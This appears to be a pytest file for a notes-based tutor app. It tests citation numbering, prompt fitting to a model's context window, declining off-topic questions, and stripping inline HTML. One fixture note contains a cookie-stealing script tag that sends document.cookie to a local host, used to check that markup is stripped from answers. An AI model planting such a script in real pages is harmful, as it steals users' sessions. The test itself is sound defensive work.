"""Real-world cases (../shared/cases): the source's own reference numbers, prompts larger than
the model's window, and questions that share one rare word with the material.

Each case is read from the shared folder and skips cleanly where it is absent; each kind is also
tried on inputs written here.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from app.answering.citations import markers
from app.answering.tutor import Tutor
from app.config import Settings
from app.ingest.pipeline import Ingestor
from app.search.lexical import LexicalIndex
from app.search.retrieval import Retriever
from app.search.retrieval import prerequisites_by_week
from app.search.vectors import VectorStore
from tests.conftest import REPO
from tests.conftest import write

CASES = REPO.parent / "shared" / "cases"


def case(name: str) -> Path:
    folder = CASES / name
    if not folder.is_dir():
        pytest.skip(f"case {name} not found at {folder}")
    return folder


def notes_of(source: str, case_name: str, tmp_path: Path, ours: str) -> Path:
    """The notes folder a test asks over: the shared case's (`source` "case", skipped where
    ../shared is absent), or one note of ours with the same fault, written under tmp_path."""
    if source == "case":
        return case(case_name) / "notes"
    return write(tmp_path / "notes" / "note.md", ours).parent


def tutor_over(folder: Path, data_dir: Path, embedder, **options) -> Tutor:
    settings = Settings(data_dir=data_dir, **options)
    Ingestor(settings, embedder=embedder).run([str(folder)])
    store = VectorStore(settings)
    retriever = Retriever(store, embedder, LexicalIndex(store, data_dir), prerequisites_by_week())
    return Tutor(settings, retriever)


def assert_markers_are_ours(answer) -> None:
    """Every [n] in the text is a listed citation; citations are 1..N in order of first use."""
    numbers = [c.n for c in answer.citations]
    assert numbers == list(range(1, len(numbers) + 1))
    used = list(dict.fromkeys(markers(answer.answer)))
    assert used == numbers, (used, numbers, answer.answer)


REFERENCED = """# Reading notes: dropout

## Why it works

Dropout zeroes each activation with probability p during training, which stops units from
co-adapting [4]. At test time all units are kept and activations are scaled to match [4, 5].
Later work applied the same idea to the weights of recurrent networks [6-8].

## Bibliography

[4] Srivastava, N. et al. Dropout: a simple way to prevent neural networks from overfitting.
[5] Hinton, G. Improving neural networks by preventing co-adaptation.
"""


@pytest.mark.parametrize(
    "source, question",
    [
        ("case", "Why do residual connections make very deep networks trainable?"),
        ("ours", "Why does dropout stop units from co-adapting, and what happens at test time?"),
    ],
)
def test_the_sources_reference_numbers_are_never_tutor_markers(
    source, question, tmp_path, embedder
) -> None:
    folder = notes_of(source, "07-reference-numbers-in-the-source", tmp_path, REFERENCED)
    answer = tutor_over(folder, tmp_path / "data", embedder).ask(question)
    assert answer.grounded, answer.answer
    assert_markers_are_ours(answer)
    assert not re.search(r"\[\d+\]\s+[A-Z][a-z]+,? ", answer.answer), "a bibliography line"
    assert "A paper on deep residual learning" not in answer.answer
    assert "Srivastava" not in answer.answer and "Hinton" not in answer.answer
    for citation in answer.citations:
        assert not re.search(r"\[\d+(?:[,\-–]\s*\d+)*\]", citation.snippet), citation.snippet


@pytest.mark.slow
@pytest.mark.parametrize("passages, chars, window", [(12, 1500, 2048), (6, 1500, 1024)])
def test_a_prompt_larger_than_the_window_is_fitted_and_the_settings_named(
    passages, chars, window, tmp_path, embedder
) -> None:
    """Case 05 with the real local model writing: its settings, then a smaller window. The
    model writes a short answer (64 tokens): the prompt is what is tested."""
    folder = case("05-prompt-larger-than-the-model") / "notes"
    tutor = tutor_over(
        folder,
        tmp_path / "data",
        embedder,
        answer_writer="model",
        context_passages=passages,
        passage_chars=chars,
        llm_context_tokens=window,
        llm_max_tokens=64,
    )
    answer = tutor.ask("How does gradient clipping interact with the learning rate schedule?")
    assert answer.grounded and answer.answer
    assert any(
        "TUTOR_CONTEXT_PASSAGES" in w and "TUTOR_PASSAGE_CHARS" in w for w in answer.warnings
    ), answer.warnings
    assert_markers_are_ours(answer)


def test_the_default_writer_answers_case_05_without_a_prompt(tmp_path, embedder) -> None:
    folder = case("05-prompt-larger-than-the-model") / "notes"
    tutor = tutor_over(folder, tmp_path / "data", embedder, context_passages=12, passage_chars=1500)
    answer = tutor.ask("How does gradient clipping interact with the learning rate schedule?")
    assert answer.grounded and answer.writer == "sources" and not answer.warnings
    assert_markers_are_ours(answer)


RARE_WORDS = """# Object detection data

## The banana detection dataset

We are going to read the banana detection dataset, where each image holds one banana with a
bounding box. Then we placed each banana image at a random position on a background photo.

## Transformers for detection

A detection transformer predicts a set of boxes with attention over image features, and the
transformer decoder matches each predicted box to one ground-truth object.
"""


@pytest.mark.parametrize(
    "question",
    [
        "Give me a recipe for banana bread",
        "How do I wire an electrical transformer in my garage?",
        "Is a banana a good snack before running?",
    ],
)
def test_a_question_sharing_one_rare_word_with_the_material_is_declined(
    question, tmp_path, embedder
) -> None:
    folder = write(tmp_path / "notes" / "detection.md", RARE_WORDS).parent
    answer = tutor_over(folder, tmp_path / "data", embedder).ask(question)
    assert not answer.grounded and answer.citations == [], answer.answer


def test_a_question_the_material_answers_is_still_answered(tmp_path, embedder) -> None:
    folder = write(tmp_path / "notes" / "detection.md", RARE_WORDS).parent
    answer = tutor_over(folder, tmp_path / "data", embedder).ask(
        "How does a detection transformer match predicted boxes to objects?"
    )
    assert answer.grounded and "ground-truth" in answer.answer


# Inline HTML in a note: markup, not prose (case 23), beside one written here with the other
# tags public notes mix in.
HTML_NOTE = """# Batch normalization

Batch normalization normalizes each feature over the batch <span class="note">before the
affine step</span>, which keeps activations in a stable range <sup>[3]</sup>.
<script>fetch('http://127.0.0.1:8799/x?steal=' + document.cookie)</script>
At test time it uses running averages of the mean and variance <img src="http://127.0.0.1:8799/b.png">.
In code, `torch.nn.BatchNorm1d(<features>)` takes the number of features, and $a<b>c$ stays a formula.
"""


@pytest.mark.parametrize(
    "source, question",
    [
        ("case", "What does dropout do at test time?"),
        ("ours", "How do I write batch normalization in code?"),
    ],
)
def test_inline_html_in_a_note_never_reaches_an_answer_or_its_card(
    source, question, tmp_path, embedder
) -> None:
    folder = notes_of(source, "23-raw-html-in-answers", tmp_path, HTML_NOTE)
    answer = tutor_over(folder, tmp_path / "data", embedder).ask(question)
    shown = [answer.answer, *(c.snippet for c in answer.citations)]
    assert answer.grounded and answer.citations, answer.answer
    for text in shown:
        prose = re.sub(r"\$[^$]*\$|`[^`]*`", "", text)  # formulas and code keep their < and >
        assert not re.search(r"<(img|a|b|span|sup|script)\b|</", prose), text
        assert "127.0.0.1:8799" not in text and "document.cookie" not in text, text
        assert not re.search(r"\s[,.]", prose), text  # no gap where markup stood
    if source == "case":
        assert re.search(r"matches training \[\d+\]\.", answer.answer), answer.answer
    else:
        assert "`torch.nn.BatchNorm1d(<features>)`" in answer.answer
        assert "$a<b>c$" in answer.answer
